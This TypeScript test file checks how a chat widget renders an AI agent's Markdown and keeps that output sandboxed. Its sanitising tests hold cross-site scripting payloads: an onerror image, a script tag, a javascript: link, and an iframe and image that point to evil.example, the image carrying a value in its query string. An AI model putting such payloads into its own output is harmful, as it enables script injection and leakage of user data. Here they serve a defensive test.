/** Markdown in the agent's turns: what it looks like, and that nothing a model writes gets out of its bubble. */
import { expect } from '@esm-bundle/chai';
import type { AgentEntry } from '../../transcript/transcript-entry.ts';
import { type AgentUnderTest, mountAgent, part, seen, until } from '../testing/mounted-agent.ts';

declare const describe: (name: string, body: () => void) => void;
declare const it: (name: string, body: () => void | Promise<void>) => void;

const turn = (text: string, state: AgentEntry['state'] = 'done', heardLength = text.length): AgentEntry => {
  return { kind: 'agent', id: 'a', agent: 'support', text, heardLength, state };
};

async function say(entry: AgentEntry, attributes: Record<string, string> = {}): Promise<Element> {
  const agent = await mountAgent({ open: true, attributes });
  agent.mute();
  await agent.session.show({ status: 'listening', entries: [entry] });
  return until(() => words(agent, '.rich'));
}

const words = (agent: AgentUnderTest, selector: string) =>
  part(agent, 'agent-turn')?.querySelector(`.words${selector}`);
const tags = (element: Element): string[] => [...element.querySelectorAll('*')].map(({ localName }) => localName);

describe('Markdown of the agent', () => {
  it('becomes emphasis, lists, code, quotes and headings', async () => {
    const bubble = await say(
      turn('# Hours\n\n**Open** *now*, ~~not~~ `code`\n\n- a\n- b\n\n3. c\n\n> said\n\n```js\nlet x;\n```\n\n---'),
    );
    expect(tags(bubble).join(' ')).to.equal('p p strong em s code ul li li ol li blockquote p pre code hr');
    expect(bubble.querySelector('[role=heading]')!.getAttribute('aria-level')).to.equal('3');
    expect(bubble.querySelector('ol')!.start).to.equal(3);
    expect(bubble.querySelector('pre')!.textContent).to.equal('let x;');
    expect(seen(bubble)).not.to.match(/[*`~#>]/);
    expect((await say(turn('0. nothing\n1. one'))).querySelector('ol')!.start).to.equal(0);
  });

  it('shows what is done and what is not in a list of tasks', async () => {
    const bubble = await say(
      turn('- [x] Chain **oiled**\n  - [ ] twice\n- [ ] Brakes\n- other\n\n> - [x] a\n>\n> - [ ] b'),
    );
    const boxes = [...bubble.querySelectorAll<HTMLInputElement>('input')];
    expect(boxes.map(({ checked, disabled, labels }) => [checked, disabled, seen(labels![0]!)])).to.deep.equal([
      [true, true, 'Chain oiled'],
      [false, true, 'twice'],
      [false, true, 'Brakes'],
      [true, true, 'a'],
      [false, true, 'b'],
    ]);
    expect(seen(bubble)).not.to.contain('[');
  });

  it('becomes a table that scrolls within its bubble', async () => {
    const bubble = await say(turn('| Model | Price |\n|---|---|\n| Courier | 890 € |'));
    expect(tags(bubble).join(' ')).to.equal('div table thead tr th th tbody tr td td');
    expect(bubble.querySelector('th')!.scope).to.equal('col');
    expect(bubble.querySelector('.scroller')!.scrollWidth).to.be.at.least(bubble.querySelector('table')!.offsetWidth);
  });

  it('lets a wide table have the width of the whole list', async () => {
    const row = `|${' Larkspur |'.repeat(20)}`;
    const bubble = await say(turn(`${row}\n|${'---|'.repeat(20)}\n${row}`));
    expect(bubble.getBoundingClientRect().width).to.equal(bubble.closest('.block')!.getBoundingClientRect().width);
  });

  it('leaves HTML as text, and fetches no picture', async () => {
    const attack =
      '**x** <img src=x onerror="alert(1)"> <script>alert(1)</script>\n\n<iframe src="https://evil.example"></iframe>\n\n![secret](https://evil.example/?q=42)';
    const bubble = await say(turn(attack), { 'link-hosts': '*' });
    expect(tags(bubble).filter((tag) => /img|script|iframe/.test(tag))).to.deep.equal([]);
    expect(seen(bubble)).to.contain('<img src=x onerror="alert(1)">');
    expect(seen(bubble)).to.contain('secret');
    expect(bubble.outerHTML).not.to.contain('evil.example/?q');
  });

  it('links where it may, and shows the address where it may not', async () => {
    const bubble = await say(
      turn('[ours](/hours) [docs](https://docs.example/a) [bad](https://evil.example/x) [js](javascript:alert(1))'),
      { 'link-hosts': 'docs.example' },
    );
    const links = [...bubble.querySelectorAll('a')];
    expect(links.map(({ href }) => href)).to.deep.equal([
      new URL('/hours', location.href).href,
      'https://docs.example/a',
    ]);
    expect(links.map(({ target }) => target)).to.deep.equal(['', '_blank']);
    expect(links.every(({ rel }) => rel === 'noopener noreferrer')).to.equal(true);
    expect(seen(bubble)).to.contain('bad (https://evil.example/x)').and.to.contain('js (javascript:alert(1))');
  });

  it('links to any host where the site says so, and to names in any script', async () => {
    const hrefs = async (hosts: string) => {
      const bubble = await say(turn('[a](https://docs.example/) [b](https://bücher.example/)'), {
        'link-hosts': hosts,
      });
      return [...bubble.querySelectorAll('a')].map(({ host }) => host);
    };
    expect(await hrefs('*')).to.deep.equal(['docs.example', 'xn--bcher-kva.example']);
    expect(await hrefs('bücher.example')).to.deep.equal(['xn--bcher-kva.example']);
    expect(await hrefs('*.example')).to.deep.equal(['docs.example', 'xn--bcher-kva.example']);
  });

  it('is drawn as far as it was heard, and what was not heard stays struck out', async () => {
    const bubble = await say(turn('**Yes**, and more', 'interrupted', 8));
    expect(tags(bubble)).to.deep.equal(['p', 'strong', 's', 'span']);
    expect(seen(bubble.querySelector('s'))).to.contain('and more');
  });

  it('shows no mark while a turn grows into the middle of something', async () => {
    const agent = await mountAgent({ open: true });
    agent.mute();
    const text = 'See **our hours** and [the map](https://maps.example/x)';
    for (const heardLength of [8, 12, 30, 45]) {
      const entries = [{ ...turn(text, 'streaming', heardLength) }];
      await agent.session.show({ status: 'speaking', entries });
      const bubble = await until(() => words(agent, '.rich'));
      expect(seen(bubble), `${heardLength}`).not.to.match(/[*[\]()]/);
      expect(text.replace(/[*[\]]/g, ''), `${heardLength}`).to.contain(seen(bubble));
    }
  });

  it('is read out without its marks', async () => {
    const agent = await mountAgent({ open: true });
    agent.mute();
    const text =
      '**Open** now:\n\n- [Monday](/hours)\n- `Tuesday`\n- [x] Paid\n- [ ] Sent\n\n| a | b |\n|---|---|\n| 1 | 2 |';
    await agent.session.show({ status: 'speaking', entries: [turn(text, 'streaming')] });
    await until(() => words(agent, '.rich'));
    await agent.session.show({ status: 'listening', entries: [turn(text)] });
    const told = agent.renderRoot.querySelector('[aria-live=polite]');
    expect(seen(told)).to.equal('Assistant: Open now: Monday Tuesday ☑ Paid ☐ Sent a, b 1, 2');
  });

  it('runs each block in its own direction', async () => {
    const bubble = await say(turn('**Hello**\n\n- שלום\n\n> مرحبا'));
    const directions = [...bubble.querySelectorAll('p, ul')].map((block) => getComputedStyle(block).direction);
    expect(directions).to.deep.equal(['ltr', 'rtl', 'rtl']);
  });

  it('grows with the turn, and a text without marks is left as it is', async () => {
    const agent = await mountAgent({ open: true });
    agent.mute();
    await agent.session.show({ status: 'speaking', entries: [turn('5 * 4 is 20', 'streaming')] });
    await until(() => words(agent, ':not(.rich)'));
    await agent.session.show({ status: 'speaking', entries: [turn('5 * 4 is **20**', 'streaming')] });
    await until(() => words(agent, '.rich strong') ?? words(agent, '.rich')?.querySelector('strong'));
  });

  it('survives a model that runs wild', async () => {
    const nested = await say(turn(`${'> '.repeat(60)}deep **x**`));
    expect(nested.querySelectorAll('blockquote').length).to.be.lessThan(20);
    expect(seen(nested)).to.contain('deep');
    const endless = `${'> '.repeat(5000)}deep **x**`;
    expect(seen(await say(turn(endless)))).to.equal(endless);
  });
});
